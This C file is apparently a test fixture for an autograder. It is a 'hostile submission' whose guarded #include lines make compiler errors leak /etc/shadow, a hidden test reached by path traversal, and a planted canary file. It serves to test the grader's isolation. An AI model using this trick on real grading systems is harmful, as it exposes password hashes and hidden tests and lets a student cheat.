/* Hostile submission: makes the compiler show files of the grader's machine in
 * its error messages (the student sees them as build feedback): the password
 * hashes, a hidden test by a path relative to where the grader stages sources,
 * and a planted canary (the test puts its path at @CANARY_FILE@). Each include is
 * guarded, so that what the compiler cannot see is skipped and it goes on. */
#if __has_include("@CANARY_FILE@")
#include "@CANARY_FILE@"
#endif
#if __has_include("../../../../../harness/labs/lab01_udp_local/test_hidden.py")
#include "../../../../../harness/labs/lab01_udp_local/test_hidden.py"
#endif
#if __has_include("/etc/shadow")
#include "/etc/shadow"
#endif
int
main(void)
{
	return 0;
}
